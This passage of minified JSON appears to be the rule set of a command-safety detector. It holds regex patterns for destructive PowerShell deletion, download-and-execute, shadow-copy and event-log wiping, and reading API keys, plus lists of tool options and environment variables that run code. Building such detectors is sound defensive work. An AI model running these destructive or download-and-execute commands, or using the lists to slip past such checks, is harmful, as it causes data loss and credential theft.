-I]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[\
-^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!In\
-clude|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,2\
-00})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\
-\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$":["(\
-?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-C\
-hildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\\
-s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\
-\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read\
--Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0\
-,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n\
-]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\
-\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\
-\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?(\
-[\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"\
-'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300\
-}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-Child\
-Item|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Co\
-ntent|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s\
-*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\
-\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\
-\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Len\
-gth|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\
-\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|ph\
-p|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(\
-.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cl\
-i|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?\
-:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?<![/\\\\\\\\.\\\\w])(?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S\
-3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbox|DistributionGroup|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|PnP\\\\w+|Team|DnsServer\\\\w+|DhcpServer\\\\w+|GPO|ClusterResource|VMSnapshot|VirtualDisk|\
-StoragePool)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPol\
-icy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\
-\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscr\
-iptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expressio\
-n)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Wher\
-e|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell.exe":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","enco\
-ded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500\
-}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,500}\\\\2(?=\\\\s{\
-0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\b\
-Select-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[r\
-ef\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|rd|rmdir|del)\\\\b(?=[^;\\\\n|]{0,200}\\\\s-[rR])(?![^;\\\\n|#]{0,200}\\\\s-WhatIf(?![:\\\
-\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TMP\\\\b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin delete shadows":["\\\\bWin32_ShadowCopy\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimIns\
-tance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200}\\\\.Delete\\\\()"],"wevtutil cl System":["\\\\bEventLogSession\\\\b[^;\\\\n]{0,200}\\\\.ClearLog\\\\("],"rm -rf ~/*":["\\\\b\
-Win32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\
-\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\\
-"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\
-\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Inclu\
-de|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\\\\s\
-+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|\
-type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:Sy\
-stem\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200}\
-)(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'\
-$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-\
-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & don\
-e":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|exi\
-t)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]\
-+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0\
-,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-Loca\
-lPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?<\
-![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s \
-0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"\
-],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'\
-])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+\
--\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|T\
-ee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-]\
-[^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([\
-^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-Wha\
-tIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullName\
-|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*\
-)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where\
-|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"\
-'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|\
-shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|\
-[^;\\\\n|{}>'\\"])*)","((?<![/\\\\\\\\.\\\\w])(?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbo\
-x|DistributionGroup|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|PnP\\\\w+|Team|DnsServer\\\\w+|DhcpServer\\\\w+|GPO|ClusterResource|VMSnapshot|VirtualDisk|StoragePool)\\\\b[^;|\\\\n]*)"\
-,"((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Pro\
-cess|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-\
-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(\
-?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|I\
-nvoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:\
-KEY|TOKEN|SECRET|PASSW)"]}}},"code_variables":{"man":{"variables":["MANPAGER","PAGER"]},"apropos":{"variables":["MANPAGER","PAGER"]},"whatis":{"variables":["MAN\
-PAGER","PAGER"]},"less":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"zless":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","ED\
-ITOR"]},"lesspipe":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"journalctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"sy\
-stemctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"loginctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"timedatectl":{"variables"\
-:["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"crontab":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"visudo":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},\
-"vipw":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"sudo":{"variables":["SUDO_EDITOR","SUDO_ASKPASS",\
-"VISUAL","EDITOR"]},"sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"kubectl":{"variables":["KUBE_EDITOR","EDITOR"]},"oc":{"variables"\
-:["KUBE_EDITOR","EDITOR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},"gh":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER"\
-,"GIT_EDITOR"]},"glab":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"psql":{"variables":["PSQL_PAGER","P\
-SQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mariadb":{"variables":["PSQL_PAGER","PSQL_\
-EDITOR","PAGER","EDITOR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"hg":{"variables":["HGEDITOR","PAGER","EDITOR\
-","VISUAL"]},"svn":{"variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISUAL"]},"bat":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"delta":{"variables":["BAT_P\
-AGER","DELTA_PAGER","PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp":{"variables":["SSH_ASKPASS"]},"sftp":{"variables":["SSH_ASKPASS"]},"ssh-add":{"variables\
-":["SSH_ASKPASS"]},"aws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{"variables":["RSYNC_RSH"]},"cvs":{"variables":["CVS_RSH","CVSEDITOR","EDITOR"]}},"git_vari\
-ables":["GIT_SSH_COMMAND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT_ASKPASS","GIT_PROXY_COMMAND","EDITOR","VISUAL","PAGE\
-R","SSH_ASKPASS"],"git_code":{"rebase":{"short":"x","long":["exec"],"code":["x","exec"]},"filter-branch":{"short":"","long":["tree-filter","index-filter","env-f\
-ilter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"],"code":["tree-filter","index-filter","env-filter","msg-filter","parent-filter","c\
-ommit-filter","tag-name-filter","setup"]},"difftool":{"short":"x","long":["extcmd"],"code":["x","extcmd"]},"fetch":{"short":"","long":["upload-pack"],"code":["u\
-pload-pack"]},"pull":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"clone":{"short":"u","long":["upload-pack"],"code":["u","upload-pack"]},"ls-remo\
-te":{"short":"","long":["upload-pack","exec"],"code":["upload-pack","exec"]},"push":{"short":"","long":["receive-pack","exec"],"code":["receive-pack","exec"]},"\
-archive":{"short":"","long":["exec"],"code":["exec"]},"grep":{"short":"","long":["open-files-in-pager"],"code":["open-files-in-pager"]}},"code_options":{"tar":{\
-"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action\
-","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"bsdtar":{"short":"IF","long":["chec\
-kpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compre\
-ss-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"short":"IF","long":["checkpoint-action","to-command",\
-"use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-program","rsh-command","i\
-nfo-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gdb":{"short":"x","long":["ex","eval-command"],"code":["ex","eval-command"],"pattern":"^\\\
-\\s*(?:shell|!)\\\\s*(.+)"},"osascript":{"short":"el","code":["e"],"pattern":"do shell script \\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\""},"concurrently":{"short":"ncpm","long":["\
-names","prefix"],"operands":"code"},"rsync":{"short":"efBM","long":["rsh","rsync-path"],"code":["e","rsh","rsync-path"]},"scp":{"short":"cFiJloPS","code":["S"]}\
-,"zip":{"long":["TT","unzip-command"],"code":["TT","unzip-command"]},"man":{"short":"PHLm","long":["pager","html"],"code":["P","pager","H","html"]},"ansible":{"\
-short":"aimuf","long":["args","module-name","inventory","user"],"code":["a","args"],"unless":["check","C","syntax-check","list-hosts"]},"ansible-playbook":{"sho\
-rt":"ielftu","long":["inventory","extra-vars","limit","forks","tags","skip-tags","user","private-key","vault-password-file","start-at-task"],"unless":["check","\
-C","syntax-check","list-hosts","list-tasks","list-tags"],"does":{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n\
-){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|hom\
